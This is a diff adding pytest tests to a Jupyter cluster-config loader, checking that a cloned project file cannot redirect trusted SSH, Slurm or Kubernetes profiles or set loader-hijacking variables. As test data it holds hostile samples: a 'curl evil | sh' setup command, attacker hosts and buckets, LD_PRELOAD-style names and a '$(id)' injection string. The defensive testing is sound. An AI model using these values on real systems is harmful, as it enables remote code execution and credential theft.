@@ -3,8 +3,10 @@ and user names, and hostile YAML (alias bombs, deep nesting, non-UTF-8, huge fil
 
 from __future__ import annotations
 
+import random
 import textwrap
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -87,10 +89,10 @@ def test_project_may_set_defaults_env_and_add_profiles(home: Path) -> None:
             host: login.cluster.example   # the same value: no change
             defaults: {nodes: 2, partition: gpu}
             env: {NCCL_DEBUG: INFO}
-            workdir: /scratch/course
           course:
             tier: slurm
             host: course.example
+            workdir: /scratch/course
           laptop:
             tier: local
         default_profile: laptop
@@ -100,6 +102,7 @@ def test_project_may_set_defaults_env_and_add_profiles(home: Path) -> None:
     assert hpc.get("host") == "login.cluster.example" and hpc.get("user") == "alice"
     assert dict(hpc.defaults) == {"nodes": 2, "partition": "gpu"}
     assert cfg.profile("course").get("host") == "course.example"
+    assert cfg.profile("course").workdir == "/scratch/course"
     assert cfg.default_profile == "laptop"
 
 
@@ -300,3 +303,283 @@ def test_profile_name_with_a_line_break_is_a_one_line_error(tmp_path: Path) -> N
     with pytest.raises(ConfigError) as info:
         load_file(path)
     assert "\n" not in str(info.value)
+
+
+# --- issue 20, item 5: every key that redirects a trusted profile, and loader-hijacking env ----
+
+# One refused value per connection key, on a trusted profile of a tier that has the key (USER's
+# hpc and serving, or the built-in local). Must name every key of config.CONNECTION_KEYS.
+REDIRECTS: dict[str, tuple[str, object]] = {
+    "tier": ("hpc", "local"),
+    "host": ("hpc", "evil.example"),
+    "port": ("hpc", 2222),
+    "user": ("hpc", "mallory"),
+    "identity_file": ("hpc", "./id"),
+    "known_hosts": ("hpc", "./kh"),
+    "proxy_jump": ("hpc", "jump.evil"),
+    "ssh_config": ("hpc", "./ssh_config"),
+    "kubeconfig": ("serving", "./kubeconfig"),
+    "context": ("serving", "attacker"),
+    "namespace": ("serving", "attacker"),
+    "service_type": ("serving", "LoadBalancer"),
+    "workdir": ("hpc", "/tmp/shared"),
+    "defaults.checkpoint_dir": ("hpc", "/tmp/loot"),
+    "path_map": ("local", {"/scratch": "/tmp/evil"}),
+    "model_volume": ("serving", {"host_path": "/"}),
+    "storage_class": ("serving", "attacker-sc"),
+    "object_store": ("serving", {"endpoint_url": "https://evil.example", "bucket": "loot",
+                                 "credentials_secret": "s3cr3t-creds"}),
+    "setup": ("hpc", ["curl evil | sh"]),
+    "defaults.image": ("serving", "evil/image:latest"),
+    "fetch_image": ("serving", "evil/fetch:latest"),  # it is handed the object store's credentials
+    "defaults.python": ("hpc", "./venv/bin/python"),
+    "image_pull_secrets": ("serving", ["attacker-cred"]),
+    "defaults.secret_env": ("serving", {"HF_TOKEN": "attacker/token"}),
+}
+TIER_OF = {"hpc": "slurm", "serving": "kubernetes", "local": "local"}
+
+
+def test_every_connection_key_has_a_redirect_case() -> None:
+    assert set(REDIRECTS) == set(config.CONNECTION_KEYS)
+    assert set(config.CONNECTION_KEYS) >= config.COMMAND_KEYS
+
+
+def _profile_with(key: str, value: object) -> dict[str, object]:
+    head, _, sub = key.partition(".")
+    return {"defaults": {sub: value}} if head == "defaults" else {key: value}
+
+
+def _yaml(doc: dict[str, object]) -> str:
+    import yaml
+
+    return yaml.safe_dump(doc, sort_keys=False)
+
+
+@pytest.mark.parametrize("key", sorted(REDIRECTS))
+def test_project_cannot_redirect_a_trusted_profile(home: Path, key: str) -> None:
+    name, value = REDIRECTS[key]
+    err = _refused(_yaml({"profiles": {name: _profile_with(key, value)}}))
+    assert isinstance(err, config.ProjectFileRefused)
+    assert err.key == f"profiles.{name}.{key}" and len(err.refusals) == 1
+    line = next(x for x in str(err).splitlines() if x.strip().startswith(err.key))
+    if key in config.COMMAND_KEYS:
+        assert "can run commands" in line
+    else:
+        assert f"decides {config.CONNECTION_KEYS[key]}" in line
+        trusted = "jupyter-tiers (built in)" if name == "local" else str(home / ".jupyter" / "tiers.yaml")
+        assert line.endswith(f"{name} is defined in {trusted}")
+    if key == "object_store":
+        assert "evil.example" not in str(err) and "s3cr3t" not in str(err)  # credentials never shown
+    elif isinstance(value, str):
+        assert f'= "{value}"' in line
+    assert "trust_project_config: true" in str(err) and config.TRUST_ENV_VAR in str(err)
+
+
+@pytest.mark.parametrize("key", sorted(set(REDIRECTS) - config.COMMAND_KEYS - {"tier"}))
+def test_a_project_only_profile_may_still_set_it(home: Path, key: str) -> None:
+    name, value = REDIRECTS[key]
+    tier = TIER_OF[name]
+    host = {"host": "course.example"} if tier == "slurm" else {}
+    profile = {"tier": tier, **host, **_profile_with(key, value)}
+    _project(_yaml({"profiles": {"course": profile}}))
+    got = load_config().profile("course")
+    head, _, sub = key.partition(".")
+    assert (got.defaults[sub] if head == "defaults" else got.get(key)) is not None
+
+
+def test_repeating_a_trusted_value_is_no_change(home: Path) -> None:
+    user = home / ".jupyter" / "tiers.yaml"
+    user.write_text(USER.replace("    namespace: team\n", "    namespace: team\n    defaults: {image: "
+                                 "'py:3.11'}\n    env: {PYTHONPATH: /opt/lib}\n"), encoding="utf-8")
+    _project("profiles:\n  serving:\n    namespace: team\n    defaults: {image: 'py:3.11', replicas: 2}\n"
+             "    env: {PYTHONPATH: /opt/lib, NCCL_DEBUG: INFO}\n")
+    serving = load_config().profile("serving")
+    assert serving.get("namespace") == "team"
+    assert dict(serving.defaults) == {"image": "py:3.11", "replicas": 2}
+
+
+HIJACKING = [
+    *sorted(config.HIJACKING_ENV_NAMES),
+    "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "PYTHONPATH", "PYTHONSTARTUP",
+    "PYTHONHOME", "BASH_FUNC_ls", "GIT_CONFIG_GLOBAL", "PIP_INDEX_URL", "UV_INDEX_URL", "CONDARC",
+    "http_proxy", "ld_preload",
+]
+
+
+def test_every_hijacking_prefix_is_exercised() -> None:
+    for prefix in config.HIJACKING_ENV_PREFIXES:
+        assert any(name.upper().startswith(prefix) for name in HIJACKING), prefix
+
+
+@pytest.mark.parametrize("name", HIJACKING)
+@pytest.mark.parametrize("profile", ["hpc", "own"])
+def test_project_cannot_set_a_loader_hijacking_env_name(home: Path, name: str, profile: str) -> None:
+    body = "    tier: local\n" if profile == "own" else ""
+    err = _refused(f"profiles:\n  {profile}:\n{body}    env: {{{name}: s3cr3t-value}}\n")
+    assert err.key == f"profiles.{profile}.env.{name}"
+    assert "s3cr3t" not in str(err)
+    assert f"{err.key}: decides which code runs (loader, interpreter, shell); never from a project file" \
+        in str(err)
+
+
+@pytest.mark.parametrize("name", ["NCCL_DEBUG", "OMP_NUM_THREADS", "HF_TOKEN", "CUDA_VISIBLE_DEVICES",
+                                  "MY_PATH", "TORCH_HOME", "WANDB_MODE", "LDAP_URI", "PY_VERSION"])
+def test_ordinary_env_names_stay_allowed(home: Path, name: str) -> None:
+    _project(f"profiles:\n  hpc:\n    env: {{{name}: '1'}}\n"
+             f"  own:\n    tier: local\n    env: {{{name}: '2'}}\n")
+    cfg = load_config()
+    assert cfg.profile("hpc").env[name] == "1" and cfg.profile("own").env[name] == "2"
+
+
+def test_all_refusals_at_once_one_line_each(home: Path) -> None:
+    path = _project("""
+        profiles:
+          serving:
+            namespace: attacker
+            service_type: LoadBalancer
+            model_volume: {host_path: /}
+            image_pull_secrets: [attacker-cred]
+            defaults: {image: evil/image, secret_env: {HF_TOKEN: a/b}, replicas: 3}
+          hpc:
+            workdir: /tmp/x
+            defaults: {python: ./python, nodes: 2}
+            env: {LD_PRELOAD: ./x.so, PYTHONPATH: ., NCCL_DEBUG: INFO}
+          course:
+            tier: slurm
+            host: course.example
+        default_profile: course
+    """)
+    with pytest.raises(config.ProjectFileRefused) as info:
+        load_config()
+    err = info.value
+    keys = [r.key for r in err.refusals]
+    assert keys == [
+        "profiles.serving.image_pull_secrets", "profiles.serving.model_volume", "profiles.serving.namespace",
+        "profiles.serving.service_type", "profiles.serving.defaults.image",
+        "profiles.serving.defaults.secret_env", "profiles.hpc.workdir", "profiles.hpc.defaults.python",
+        "profiles.hpc.env.LD_PRELOAD", "profiles.hpc.env.PYTHONPATH", "default_profile",
+    ]
+    lines = str(err).splitlines()
+    assert lines[0] == (f"{path}: refused 11 settings of this project file "
+                        "(it may have come with a cloned repository):")
+    assert [line.split(" ", 3)[2].rstrip(":") for line in lines[1:-1]] == keys
+    assert ('  profiles.serving.model_volume = {"host_path": "/"}: decides where files go; '
+            'serving is defined in') in str(err)
+    assert '  profiles.serving.service_type = "LoadBalancer": decides who can reach it;' in str(err)
+    assert "  profiles.hpc.env.LD_PRELOAD: decides which code runs" in str(err)  # no value shown
+    assert lines[-1].startswith("to allow it, set trust_project_config: true")
+
+
+@pytest.mark.parametrize("how", ["user-key", "env-var", "explicit-file"])
+def test_opt_in_lets_the_project_redirect_and_set_loader_env(home: Path, monkeypatch: pytest.MonkeyPatch,
+                                                             how: str) -> None:
+    path = _project("""
+        profiles:
+          serving:
+            namespace: other
+            service_type: NodePort
+            model_volume: {host_path: /models}
+            object_store: {bucket: ours}
+            defaults: {image: "ours/image:1", secret_env: {HF_TOKEN: hf/token}}
+            env: {LD_PRELOAD: /opt/x.so}
+          hpc:
+            workdir: /scratch/course
+            defaults: {python: /opt/venv/bin/python}
+            env: {PYTHONPATH: /opt/lib}
+    """)
+    if how == "user-key":
+        (home / ".jupyter" / "tiers.yaml").write_text(USER + "trust_project_config: true\n", encoding="utf-8")
+    elif how == "env-var":
+        monkeypatch.setenv(config.TRUST_ENV_VAR, "1")
+    else:
+        monkeypatch.setenv(config.ENV_VAR, str(path))
+    cfg = load_config()
+    serving, hpc = cfg.profile("serving"), cfg.profile("hpc")
+    assert (serving.get("namespace"), serving.get("service_type")) == ("other", "NodePort")
+    assert serving.get("model_volume") == {"host_path": "/models"}
+    assert serving.get("object_store") == {"bucket": "ours"}
+    assert serving.defaults["image"] == "ours/image:1" and serving.env["LD_PRELOAD"] == "/opt/x.so"
+    assert hpc.workdir == "/scratch/course" and hpc.defaults["python"] == "/opt/venv/bin/python"
+    assert hpc.env["PYTHONPATH"] == "/opt/lib"
+
+
+def test_refusal_messages_fuzz(home: Path) -> None:
+    """Random project files over the connection keys and env names, with hostile values: the
+    refusal is one header line, one line per refused key, one opt-in line, all printable."""
+    import yaml
+
+    rng = random.Random(2005)
+    junk = ["x", "a\nb", "\x1b[31mred", "é" * 100, "$(id)", "", "a" * 500, 7, True, None, [1, "\r"],
+            {"k": "\n"}]
+    envs = [*HIJACKING[:20], "NCCL_DEBUG", "A"]
+    refused = invalid = 0
+    for _ in range(300):
+        profiles: dict[str, dict[str, Any]] = {}
+        for _ in range(rng.randint(1, 3)):
+            name = rng.choice(["hpc", "serving", "local"])
+            prof = profiles.setdefault(name, {})
+            key = rng.choice(sorted(REDIRECTS))
+            value = REDIRECTS[key][1] if rng.random() < 0.6 else rng.choice(junk)
+            if rng.random() < 0.4:
+                prof.setdefault("env", {})[rng.choice(envs)] = rng.choice(["v", "a\nb", "\x00"])
+            head, _, sub = key.partition(".")
+            if head == "defaults":
+                prof.setdefault("defaults", {})[sub] = value
+            else:
+                prof[key] = value
+        _project(yaml.safe_dump({"profiles": profiles}))
+        config_cache_clear()
+        try:
+            load_config()
+        except config.ProjectFileRefused as err:
+            refused += 1
+            lines = str(err).splitlines()
+            assert len(lines) == len(err.refusals) + 2, str(err)
+            assert all(line.isprintable() for line in lines), str(err)
+            assert "s3cr3t" not in str(err)
+        except ConfigError as err:
+            invalid += 1
+            assert type(err) is ConfigError  # a bad value: the ordinary one-key error
+        else:  # accepted: every connection key it names repeats the trusted value (no change)
+            given = [(n, k) for n, p in profiles.items() for k in p if k in config.CONNECTION_KEYS]
+            if given:
+                (Path.cwd() / "tiers.yaml").unlink()
+                config_cache_clear()
+                trusted = {n: load_config().profile(n) for n, _ in given}
+                assert all((trusted[n].tier if k == "tier" else trusted[n].get(k)) == profiles[n][k]
+                           for n, k in given), profiles
+    assert refused > 100 and invalid > 10, (refused, invalid)
+
+
+def config_cache_clear() -> None:
+    from jupyter_tiers import config_cache
+
+    config_cache.clear()
+
+
+def test_the_magic_shows_every_refused_key_as_one_usage_error(tmp_path: Path,
+                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where the user meets it: the magic's own error, one line per key, nothing run."""
+    from IPython.core.error import UsageError
+
+    from tests import helpers
+
+    helpers.isolate_tiers(tmp_path, monkeypatch)  # the built-in local profile is the trusted one
+    (tmp_path / "tiers.yaml").write_text(
+        "profiles:\n  local:\n    workdir: /tmp/shared\n    defaults: {python: ./evil-python}\n"
+        "    env: {LD_PRELOAD: ./evil.so}\n", encoding="utf-8")
+    ip = helpers.tiers_shell()
+    with pytest.raises(UsageError) as info:
+        ip.run_cell_magic("slurm_train", "--dry-run", "print(1)\n")
+    lines = str(info.value).splitlines()
+    assert lines[0].endswith("tiers.yaml: refused 3 settings of this project file "
+                             "(it may have come with a cloned repository):")
+    assert lines[1:4] == [
+        '  profiles.local.workdir = "/tmp/shared": decides where files go; local is defined in '
+        "jupyter-tiers (built in)",
+        '  profiles.local.defaults.python = "./evil-python": decides which code runs; local is defined '
+        "in jupyter-tiers (built in)",
+        "  profiles.local.env.LD_PRELOAD: decides which code runs (loader, interpreter, shell); never "
+        "from a project file",
+    ]
+    assert lines[4].startswith("to allow it, set trust_project_config: true")
